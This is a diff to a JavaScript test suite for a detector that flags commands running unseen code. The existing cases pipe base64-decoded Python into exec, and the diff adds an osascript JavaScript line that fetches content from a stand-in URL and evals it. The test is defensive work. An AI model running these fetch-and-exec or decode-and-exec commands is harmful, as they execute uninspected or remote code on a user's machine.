@@ -23,6 +23,9 @@ describe('code that nobody sees before it runs', () => {
     ['echo "exec(base64.b64decode(\'aW1w\'))" | python3'],
     ['python3 <<< "import base64;exec(base64.b64decode(\'aW1w\').decode())"'],
     ['osascript -e \'do shell script "echo exec(base64.b64decode(x)) | python"\''],
+    [
+      'osascript -l JavaScript -e \'eval(ObjC.unwrap($.NSString.stringWithContentsOfURL($.NSURL.URLWithString("https://x.test"))))\'',
+    ],
   ])('is seen in %s', command => {
     expect(deeds(command)).toContain('computed');
   });
